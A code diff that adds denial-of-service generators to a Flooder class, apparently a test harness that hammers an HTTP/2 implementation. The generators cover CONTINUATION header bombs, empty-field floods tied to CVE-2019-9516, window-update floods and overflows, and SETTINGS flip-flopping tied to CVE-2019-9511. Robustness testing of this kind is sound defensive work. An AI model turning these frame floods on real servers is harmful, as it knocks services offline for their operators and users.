@@ -87,6 +87,10 @@ class Flooder:
         while True:
             yield PingFrame(0, opaque_data=b"12345678")
 
+    def ping_ack(self):
+        while True:
+            yield PingFrame(0, opaque_data=b"12345678", flags=["ACK"])
+
     def empty_data(self):
         yield self.headers()
         while True:
@@ -121,10 +125,57 @@ class Flooder:
             self.streams += 2
             yield HeadersFrame(self.streams, data=reference + b"\xbe" * 8000, flags=["END_HEADERS"])
 
-    def zero_window_update(self):
+    def header_bomb_in_pieces(self):
+        """The same, behind HEADERS that say nothing, in CONTINUATION frames."""
+        yield self.headers([*REQUEST, (b"bomb", b"x" * 4000)])
+        self.streams += 2
+        yield HeadersFrame(self.streams, data=b"")
+        while True:
+            yield ContinuationFrame(self.streams, data=b"\xbe" * 3000)
+
+    def many_fields(self):
+        """CVE-2019-9516 and cookies in crumbs: fields of nothing, each of which costs memory."""
+        while True:
+            yield self.headers([*REQUEST, *[(b"a", b"")] * 900])
+
+    def announced_bodies(self):
+        """Requests that end without the body they announced: we do the resetting."""
+        while True:
+            yield self.headers([*REQUEST, (b"content-length", b"5")], ("END_HEADERS", "END_STREAM"))
+
+    def window_update_of_the_connection(self):
+        while True:
+            yield WindowUpdateFrame(0, window_increment=1)
+
+    def window_update_of_a_stream(self):
+        yield self.headers()
+        while True:
+            yield WindowUpdateFrame(self.streams, window_increment=1)
+
+    def window_update_of_closed_streams(self):
+        yield self.headers()
+        yield RstStreamFrame(self.streams, error_code=ErrorCodes.CANCEL)
+        while True:
+            yield WindowUpdateFrame(self.streams, window_increment=1)
+
+    def window_overflow(self):
         yield self.headers()
         while True:
             yield WindowUpdateFrame(self.streams, window_increment=2**31 - 1)
+
+    def window_shaking(self):
+        """CVE-2019-9511's cousin: every stream's window changes with the setting."""
+        for _ in range(90):
+            yield self.headers()
+        while True:
+            yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
+            yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})
+
+    def table_shaking(self):
+        """Each makes our encoder empty its table and say so."""
+        while True:
+            yield SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 0})
+            yield SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 2**31})
 
 
 FLOODS = [name for name in vars(Flooder) if not name.startswith("_") and name != "headers"]
